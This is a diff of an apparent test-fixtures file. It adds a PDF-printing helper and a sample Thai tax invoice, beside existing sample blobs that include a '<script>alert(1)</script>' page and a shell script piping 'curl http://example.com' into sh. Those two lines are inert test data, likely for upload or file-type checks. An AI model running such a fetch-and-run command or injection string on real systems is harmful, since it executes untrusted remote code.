@@ -61,3 +61,31 @@ ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
 SCRIPT = b"#!/bin/sh\ncurl http://example.com | sh\n"
 GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\x00" * 20
+
+
+def printed_pdf(*lines: str) -> bytes:
+    """A PDF as invoicing software prints one: `lines` in the embedded Noto font (Thai and Vietnamese
+    included), each on its own line, with a text layer pypdf reads back."""
+    from core.pdf import new_pdf
+
+    document = new_pdf("Invoice")
+    document.add_page()
+    document.set_font("Noto", "", 11)
+    for line in lines:
+        document.cell(0, 7, line, new_x="LMARGIN", new_y="NEXT")
+    return bytes(document.output())
+
+
+THAI_VENDOR_INVOICE = (
+    "บริษัท สยามกระดาษ จำกัด",
+    "ใบกำกับภาษี / ใบแจ้งหนี้",
+    "เลขประจำตัวผู้เสียภาษีอากร 0105551234567 สาขา 00000",
+    "เลขที่ IV2026-0042",
+    "วันที่ 03/11/2569",
+    "ครบกำหนดชำระ 03/12/2569",
+    "ผู้ซื้อ: บริษัท ตัวอย่าง จำกัด เลขประจำตัวผู้เสียภาษี 0994000165421",
+    "กระดาษ A4 80 แกรม 100 รีม 10,000.00",
+    "มูลค่าสินค้า 10,000.00",
+    "ภาษีมูลค่าเพิ่ม 7% 700.00",
+    "รวมทั้งสิ้น 10,700.00 บาท",
+)
